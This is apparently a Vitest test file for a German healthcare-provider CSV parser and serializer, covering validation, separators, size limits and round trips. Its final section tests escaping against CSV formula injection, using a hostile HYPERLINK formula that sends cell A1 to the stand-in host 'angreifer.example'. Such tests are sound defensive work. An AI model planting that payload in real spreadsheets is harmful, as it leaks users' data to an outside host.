import { describe, expect, it } from "vitest";
import type { Provider } from "@/lib/domain/schemas/provider";
import { detectSeparator, readCsv, writeCsvField } from "./parse";
import {
  groupByKey,
  MAX_CSV_PROVIDERS,
  MAX_CSV_ROWS,
  PROVIDER_CSV_COLUMNS,
  PROVIDER_CSV_TEMPLATE,
  parseCountyProvidersCsvAsync,
  parseProvidersCsv,
  parseProvidersCsvAsync,
  serializeCountyProvidersCsv,
  serializeProvidersCsv,
} from "./providers";

const HEADER = "Nr.,Art,Name,Straße,PLZ,Ort,Nachfolge,Ärztin oder Arzt,Geburtsjahr,Alter,Tätigkeit,Versorgungsauftrag,Wochenstunden,Geplantes Abgabejahr";

describe("parseProvidersCsv: a good file", () => {
  const csv = [
    HEADER,
    "1,Hausarztpraxis,Praxis am Markt,Marktstraße 1,32694,Dörentrup,gesucht,Dr. A,1961,,zugelassen,voll,,2028",
    '1,Hausarztpraxis,Praxis am Markt,Marktstraße 1,32694,Dörentrup,gesucht,"Müller, B.",1984,,angestellt,,"12.5",',
    "2,Apotheke,Löwen-Apotheke,Hauptstraße 5,32694,Dörentrup,,,,,,,,",
    "",
  ].join("\n");

  it("groups one row per doctor into providers (comma separator, LF)", () => {
    const result = parseProvidersCsv(csv);
    expect(result).toStrictEqual({
      ok: true,
      providers: [
        {
          kind: "gp-practice",
          name: "Praxis am Markt",
          street: "Marktstraße 1",
          postcode: "32694",
          city: "Dörentrup",
          successorStatus: "searching",
          doctors: [
            { name: "Dr. A", birthYear: 1961, employment: "licensed", licence: "full", plannedExitYear: 2028 },
            { name: "Müller, B.", birthYear: 1984, employment: "employed", weeklyHours: 12.5 },
          ],
        },
        { kind: "pharmacy", name: "Löwen-Apotheke", street: "Hauptstraße 5", postcode: "32694", city: "Dörentrup", successorStatus: "none", doctors: [] },
      ],
    });
  });

  it("accepts the downloadable template", () => {
    const result = parseProvidersCsv(PROVIDER_CSV_TEMPLATE);
    expect(result.ok).toBe(true);
    if (result.ok) expect(result.providers.map((p) => p.doctors.length)).toEqual([2, 0]);
  });
});

describe("parseProvidersCsv: a file with two bad rows", () => {
  const csv = [
    HEADER,
    "1,Hausarztpraxis,Praxis am Markt,Marktstraße 1,32694,Dörentrup,keine,Dr. A,1961,,zugelassen,voll,,",
    "2,Hausarztpraxis,Praxis Süd,Südweg 3,3269,Dörentrup,keine,Dr. C,1925,,zugelassen,voll,,", // bad PLZ, bad birth year
    "3,Apotheke,Löwen-Apotheke,Hauptstraße 5,32694,Dörentrup,keine,,,,,,,",
    "4,Hausarztpraxis,Praxis Nord,Nordweg 1,32694,Dörentrup,keine,Dr. D,1970,,angestellt,,,", // employed without hours
  ].join("\r\n");

  it("returns no providers and reports both rows with line and reason", () => {
    const result = parseProvidersCsv(csv);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors).toEqual([
      { line: 3, column: "PLZ", message: "Bitte eine fünfstellige Postleitzahl angeben." },
      { line: 3, column: "Geburtsjahr", message: "Bitte ein Geburtsjahr zwischen 1930 und 2010 angeben." },
      { line: 5, column: "Wochenstunden", message: "Bei angestellten Ärztinnen und Ärzten bitte die Wochenstunden angeben." },
    ]);
    expect("providers" in result).toBe(false);
  });

  it("reports unknown values, non-numbers and inconsistent provider rows", () => {
    const bad = [
      HEADER,
      "1,Zahnarzt,X,Weg 1,32694,Dörentrup,,Dr. A,neunzehn,,zugelassen,voll,,",
      "2,Hausarztpraxis,Y,Weg 2,32694,Dörentrup,,Dr. B,1970,,zugelassen,voll,,",
      "2,Hausarztpraxis,Y anders,Weg 2,32694,Dörentrup,,Dr. C,1971,,zugelassen,voll,,",
    ].join("\n");
    const result = parseProvidersCsv(bad);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors.map((e) => [e.line, e.column])).toEqual([
      [2, "Art"],
      [2, "Geburtsjahr"],
      [4, "Name"],
    ]);
    expect(result.errors[1]?.message).toBe("„neunzehn“ ist keine Zahl.");
  });

  it("reports a missing required column and an unterminated quote", () => {
    const noCity = parseProvidersCsv("Art;Name;Straße;PLZ\nApotheke;A;B;12345\n");
    expect(noCity).toEqual({ ok: false, errors: [{ line: 1, column: "Ort", message: "Die Pflichtspalte „Ort“ fehlt." }] });
    const open = parseProvidersCsv(`${HEADER}\n1,Apotheke,"A,Weg 1,12345,Ort,,,,,,,,\n`);
    expect(open).toEqual({ ok: false, errors: [{ line: 2, message: "Ein Anführungszeichen wird nicht geschlossen." }] });
  });
});

describe("parseProvidersCsv: Excel file with umlauts, semicolons and a BOM", () => {
  const csv =
    "\uFEFF" +
    [
      "Nr.;Art;Name;Straße;PLZ;Ort;Nachfolge;Ärztin/Arzt;Geburtsjahr;Alter;Tätigkeit;Versorgungsauftrag;Wochenstunden;Geplantes Abgabejahr",
      '1;Hausarztpraxis;"Gemeinschaftspraxis Schäfer; Jöns & Groß";Lügder Straße 12;32694;Dörentrup;gefunden;Dr. Jürgen Größ;1958;;zugelassen;drei Viertel;;2027',
      "1;Hausarztpraxis;Gemeinschaftspraxis Schäfer; Jöns & Groß;Lügder Straße 12;32694;Dörentrup;gefunden;Ärztin Öztürk;;45;angestellt;;22,5;",
    ].join("\r\n") +
    "\r\n";

  it("detects the semicolon and strips the BOM", () => {
    expect(detectSeparator(csv)).toBe(";");
    expect(readCsv(csv, ";")[0]?.fields[0]).toBe("Nr.");
  });

  it("reports the unquoted semicolon in the second row, keeps umlauts intact", () => {
    const result = parseProvidersCsv(csv);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors[0]?.line).toBe(3);
    expect(result.errors[0]?.message).toContain("Trennzeichen");
  });

  it("parses umlauts, quoted semicolons and decimal commas", () => {
    const fixed = csv.replace("\r\n1;Hausarztpraxis;Gemeinschaftspraxis Schäfer; Jöns & Groß;", '\r\n1;Hausarztpraxis;"Gemeinschaftspraxis Schäfer; Jöns & Groß";');
    const result = parseProvidersCsv(fixed);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.providers).toHaveLength(1);
    expect(result.providers[0]).toMatchObject({
      name: "Gemeinschaftspraxis Schäfer; Jöns & Groß",
      street: "Lügder Straße 12",
      city: "Dörentrup",
      successorStatus: "found",
      doctors: [
        { name: "Dr. Jürgen Größ", birthYear: 1958, employment: "licensed", licence: "three-quarter", plannedExitYear: 2027 },
        { name: "Ärztin Öztürk", age: 45, employment: "employed", weeklyHours: 22.5 },
      ],
    });
  });
});

describe("the doctor column: „Ärztin oder Arzt“, the old „Ärztin/Arzt“ still read", () => {
  const row = "1;Hausarztpraxis;Praxis am Markt;Marktstraße 1;32694;Dörentrup;gesucht;Dr. A;1961;;zugelassen;voll;;2028";
  const header = (doctorHeader: string) =>
    `Nr.;Art;Name;Straße;PLZ;Ort;Nachfolge;${doctorHeader};Geburtsjahr;Alter;Tätigkeit;Versorgungsauftrag;Wochenstunden;Geplantes Abgabejahr`;

  it("the template and the export name the column „Ärztin oder Arzt“", () => {
    expect(PROVIDER_CSV_TEMPLATE.split("\r\n")[0]).toBe(`\uFEFF${header("Ärztin oder Arzt")}`);
    expect(serializeProvidersCsv([]).split("\r\n")[0]).toBe(`\uFEFF${header("Ärztin oder Arzt")}`);
  });

  it.each(["Ärztin oder Arzt", "Ärztin/Arzt", "ärztin/arzt"])("imports a file whose header says %j", (doctorHeader) => {
    const result = parseProvidersCsv(`${header(doctorHeader)}\n${row}\n`);
    expect(result.ok && result.providers[0]?.doctors[0]?.name).toBe("Dr. A");
  });

  it.each(["Ärztin oder Arzt", "Ärztin/Arzt"])("imports a county-wide file whose header says %j", async (doctorHeader) => {
    const result = await parseCountyProvidersCsvAsync(`AGS;${header(doctorHeader)}\n05766024;${row}\n`, new Set(["05766024"]));
    expect(result.ok && result.towns.get("05766024")?.[0]?.doctors[0]?.name).toBe("Dr. A");
    expect(serializeCountyProvidersCsv([]).split("\r\n")[0]).toBe(`\uFEFFAGS;${header("Ärztin oder Arzt")}`);
  });

  it("refuses a file that has both names (one column twice)", () => {
    const result = parseProvidersCsv(`${header("Ärztin oder Arzt")};Ärztin/Arzt\n${row};Dr. B\n`);
    expect(result).toEqual({ ok: false, errors: [{ line: 1, column: "Ärztin oder Arzt", message: "Die Spalte „Ärztin oder Arzt“ kommt doppelt vor." }] });
  });

  it("names the new header in the list of allowed columns", () => {
    const result = parseProvidersCsv("Art;Name;Straße;PLZ;Ort;Arzt\nApotheke;A;B;12345;Ort;x\n");
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors[0]?.message).toContain("Nachfolge, Ärztin oder Arzt, Geburtsjahr");
  });
});

describe("serializeProvidersCsv", () => {
  const providers: Provider[] = [
    {
      kind: "gp-practice",
      name: 'Praxis "Am Brunnen"; Süd',
      street: "Lügder Straße 12",
      postcode: "32694",
      city: "Dörentrup",
      successorStatus: "searching",
      doctors: [
        { name: "Dr. Größ", birthYear: 1958, employment: "licensed", licence: "half", plannedExitYear: 2027 },
        { age: 45, employment: "employed", weeklyHours: 12.5 },
      ],
    },
    { kind: "nursing-service", name: "Pflegedienst Örtlich", street: "Weg 1", postcode: "32694", city: "Dörentrup", successorStatus: "none", doctors: [] },
    { kind: "therapy-practice", name: "Physio, Ergo\nund mehr", street: "Weg 2", postcode: "01234", city: "Schneeberg", successorStatus: "found", doctors: [] },
  ];

  it("writes ;-separated CSV with BOM and CRLF, one row per doctor", () => {
    const csv = serializeProvidersCsv(providers);
    expect(csv.startsWith("\uFEFFNr.;Art;Name;")).toBe(true);
    const lines = csv.split("\r\n");
    expect(lines[1]).toBe('1;Hausarztpraxis;"Praxis ""Am Brunnen""; Süd";Lügder Straße 12;32694;Dörentrup;gesucht;Dr. Größ;1958;;zugelassen;halb;;2027');
    expect(lines[2]).toBe('1;Hausarztpraxis;"Praxis ""Am Brunnen""; Süd";Lügder Straße 12;32694;Dörentrup;gesucht;;;45;angestellt;;12,5;');
    expect(lines[3]).toBe("2;Pflegedienst;Pflegedienst Örtlich;Weg 1;32694;Dörentrup;keine;;;;;;;");
  });

  it("round-trips exactly: export → import gives the same providers", () => {
    const result = parseProvidersCsv(serializeProvidersCsv(providers));
    expect(result).toStrictEqual({ ok: true, providers });
  });

  it("documents every column with a German header and description", () => {
    expect(PROVIDER_CSV_COLUMNS).toHaveLength(14);
    for (const c of PROVIDER_CSV_COLUMNS) expect(c.description_de.length).toBeGreaterThan(3);
  });
});

describe("large files (issue 12)", () => {
  const row = (no: number, doctor: number) =>
    `${no};Hausarztpraxis;Praxis ${no};Weg ${no};32694;Dörentrup;keine;Dr. ${no}-${doctor};1970;;zugelassen;voll;;`;
  const SEMI_HEADER = HEADER.replaceAll(",", ";");

  it("groups 30,000 rows into the right groups, in order", () => {
    const rows = Array.from({ length: 30_000 }, (_, i) => ({ key: `nr:${i % 7_000}`, i }));
    const groups = groupByKey(rows, (r) => r.key);
    expect(groups.size).toBe(7_000);
    expect([...groups.keys()].slice(0, 3)).toEqual(["nr:0", "nr:1", "nr:2"]);
    expect(groups.get("nr:0")!.map((r) => r.i)).toEqual([0, 7_000, 14_000, 21_000, 28_000]);
    expect(groups.get("nr:6999")!.map((r) => r.i)).toEqual([6_999, 13_999, 20_999, 27_999]);
    expect([...groups.values()].reduce((n, g) => n + g.length, 0)).toBe(30_000);
  });

  it("reads a file at the caps: 20,000 rows in 5,000 providers of four doctors each", async () => {
    const lines = [SEMI_HEADER];
    for (let p = 1; p <= MAX_CSV_PROVIDERS; p++) for (let d = 1; d <= MAX_CSV_ROWS / MAX_CSV_PROVIDERS; d++) lines.push(row(p, d));
    const result = await parseProvidersCsvAsync(lines.join("\n"));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.providers).toHaveLength(MAX_CSV_PROVIDERS);
    expect(result.providers.at(-1)).toMatchObject({ name: `Praxis ${MAX_CSV_PROVIDERS}` });
    expect(result.providers.at(-1)!.doctors.map((d) => d.name)).toEqual([1, 2, 3, 4].map((d) => `Dr. ${MAX_CSV_PROVIDERS}-${d}`));
  });

  it("refuses a file with more rows than allowed, with a German message", () => {
    const lines = [SEMI_HEADER, ...Array.from({ length: MAX_CSV_ROWS + 1 }, (_, i) => row(Math.floor(i / 5), i % 5))];
    expect(parseProvidersCsv(lines.join("\n"))).toStrictEqual({
      ok: false,
      errors: [{ line: MAX_CSV_ROWS + 2, message: expect.stringMatching(/^Die Datei hat 20\.001 Zeilen; erlaubt sind höchstens 20\.000 Zeilen/) }],
    });
  });

  it("refuses a file with more providers than allowed", () => {
    const lines = [SEMI_HEADER, ...Array.from({ length: MAX_CSV_PROVIDERS + 1 }, (_, i) => row(i, 1))];
    const result = parseProvidersCsv(lines.join("\n"));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors).toEqual([{ line: 1, message: expect.stringContaining("5.001 Einrichtungen; erlaubt sind höchstens 5.000 Einrichtungen je Gemeinde") }]);
  });
});

describe("formula injection on export (OWASP CSV injection), lossless round trip", () => {
  const hostile: Provider[] = [
    {
      kind: "gp-practice",
      name: '=HYPERLINK("https://angreifer.example/?d="&A1;"Klick")',
      street: "+49 Hauptstraße 1",
      postcode: "32694",
      city: "-Dörentrup",
      successorStatus: "none",
      doctors: [
        { name: "@SUMME(1;2)", birthYear: 1960, employment: "licensed", licence: "full" },
        { name: "'Apostroph", birthYear: 1970, employment: "licensed", licence: "half" },
        { name: "''zwei", birthYear: 1971, employment: "licensed", licence: "half" },
        { name: "'=schon maskiert", birthYear: 1972, employment: "licensed", licence: "half" },
      ],
    },
    { kind: "pharmacy", name: "Apotheke =am Markt", street: "Weg 2", postcode: "32694", city: "Dörentrup", successorStatus: "none", doctors: [] },
  ];

  it("writes no cell that starts with =, +, -, @, tab or CR, and reads back exactly the same data", () => {
    const csv = serializeProvidersCsv(hostile);
    const cells = csv
      .replace(/^\uFEFF/, "")
      .split("\r\n")
      .flatMap((line) => line.split(";"))
      .map((cell) => cell.replace(/^"/, ""));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(csv).toContain(`"'=HYPERLINK(""https://angreifer.example/?d=""&A1;""Klick"")"`);
    expect(csv).toContain(`;"'@SUMME(1;2)";`);
    expect(csv).toContain(`;"''Apostroph";`);
    expect(parseProvidersCsv(csv)).toStrictEqual({ ok: true, providers: hostile });
  });

  it("the escape rule: one leading ' removed only before a formula character or another '", () => {
    expect(readCsv("'=1+1;'+x;''y;'z;'\n", ";")[0]?.fields).toEqual(["=1+1", "+x", "'y", "'z", "'"]);
    expect(writeCsvField("=1+1", ";")).toBe(`"'=1+1"`);
    expect(writeCsvField("'z", ";")).toBe(`"''z"`);
    expect(writeCsvField("Praxis", ";")).toBe("Praxis");
  });
});
